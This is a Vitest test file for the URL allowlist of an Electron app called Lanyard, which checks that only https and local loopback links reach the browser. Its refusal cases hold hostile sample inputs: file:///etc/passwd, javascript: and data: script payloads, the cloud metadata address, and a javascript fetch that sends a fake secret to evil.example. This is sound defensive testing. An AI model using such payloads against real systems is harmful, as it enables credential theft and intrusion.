import { describe, expect, it } from 'vitest';
import {
  checkExternalUrl,
  endpointOverrideOrigins,
  guardExternalOpener,
  isSafeExternalUrl,
} from '../../../../electron/core/console/external-url.js';
import { isLanyardError, type LanyardError } from '../../../../electron/core/domain/errors.js';

function refusal(url: string, options: Parameters<typeof checkExternalUrl>[1] = {}): LanyardError {
  try {
    checkExternalUrl(url, options);
  } catch (error) {
    if (isLanyardError(error, 'USAGE')) return error;
    throw error;
  }
  throw new Error(`expected ${url} to be refused`);
}

describe('links Lanyard opens in the browser', () => {
  it.each([
    'https://device.sso.us-east-1.amazonaws.com/?user_code=ABCD-EFGH',
    'https://oidc.eu-west-1.amazonaws.com/authorize?response_type=code&client_id=x',
    'https://docs.aws.amazon.com/singlesignon/',
    'HTTPS://EXAMPLE.COM/',
    'http://127.0.0.1:4566/device?user_code=ABCD-EFGH',
    'http://127.0.0.1:41234/Zm9vYmFy',
    'http://localhost:4566/device',
    'http://[::1]:4566/device',
  ])('opens %s', (url) => {
    expect(isSafeExternalUrl(url)).toBe(true);
    expect(checkExternalUrl(url)).toBe(url);
  });

  it.each([
    ['file:///etc/passwd', 'it is a file: link'],
    ['javascript:alert(1)', 'it is a javascript: link'],
    ['JavaScript:alert(1)', 'it is a javascript: link'],
    ['data:text/html,<script>alert(1)</script>', 'it is a data: link'],
    ['vbscript:msgbox(1)', 'it is a vbscript: link'],
    ['ms-settings:privacy', 'it is a ms-settings: link'],
    ['smb://fileserver/share', 'it is a smb: link'],
    ['ftp://example.com/file', 'it is a ftp: link'],
    ['vscode://file/etc/passwd', 'it is a vscode: link'],
    ['http://evil.example/device', 'it is a plain-http page on evil.example'],
    ['http://127.0.0.1.evil.example/', 'it is a plain-http page on 127.0.0.1.evil.example'],
    ['http://localhost.evil.example:4566/', 'it is a plain-http page on localhost.evil.example:4566'],
    ['http://169.254.169.254/latest/meta-data/', 'it is a plain-http page on 169.254.169.254'],
    ['https://user:secret@device.sso.us-east-1.amazonaws.com/', 'it carries a user name or password'],
    ['http://user@127.0.0.1:4566/', 'it carries a user name or password'],
    ['not a url', 'it is not a valid URL'],
    ['', 'it is not a valid URL'],
  ])('refuses %s: %s', (url, reason) => {
    expect(isSafeExternalUrl(url)).toBe(false);
    const error = refusal(url);
    expect(error.describe()).toBe(
      `Lanyard refused to open a link in the browser: ${reason}.\nLanyard opens only https:// pages (and its own pages on 127.0.0.1) in the browser.`,
    );
  });

  it('never quotes a refused URL, which may carry a secret', () => {
    const error = refusal('javascript:fetch("https://evil.example/?t=FAKE-SECRET-VALUE")');
    expect(error.describe()).not.toContain('FAKE-SECRET-VALUE');
    expect(error.describe()).not.toContain('evil.example');
  });

  it('opens an endpoint override by its exact origin (a local Identity Center)', () => {
    const env = { AWS_ENDPOINT_URL_SSO_OIDC: 'http://idc.test:4566/base', AWS_ENDPOINT_URL: 'http://aws.test' };
    expect(endpointOverrideOrigins(env)).toEqual(['http://idc.test:4566', 'http://aws.test']);
    expect(isSafeExternalUrl('http://idc.test:4566/device?user_code=X', { env })).toBe(true);
    expect(isSafeExternalUrl('http://aws.test/authorize', { env })).toBe(true);
    expect(isSafeExternalUrl('http://idc.test:4567/device', { env })).toBe(false);
    expect(isSafeExternalUrl('http://idc.test:4566/device')).toBe(false);
    expect(isSafeExternalUrl('http://idc.test:4566/device', { extraOrigins: ['http://idc.test:4566'] })).toBe(true);
    expect(
      endpointOverrideOrigins({ AWS_ENDPOINT_URL_SSO_OIDC: 'file:///tmp/x', AWS_ENDPOINT_URL: 'nonsense' }),
    ).toEqual([]);
    expect(isSafeExternalUrl('file:///tmp/x', { env: { AWS_ENDPOINT_URL_SSO_OIDC: 'file:///tmp/x' } })).toBe(false);
  });

  it('guards an opener: refused links never reach it', async () => {
    const opened: string[] = [];
    const open = guardExternalOpener(async (url) => void opened.push(url));
    await open('https://device.sso.us-east-1.amazonaws.com/');
    await expect(open('file:///etc/passwd')).rejects.toMatchObject({ code: 'USAGE' });
    await expect(open('http://evil.example/')).rejects.toMatchObject({ code: 'USAGE' });
    expect(opened).toEqual(['https://device.sso.us-east-1.amazonaws.com/']);
  });
});
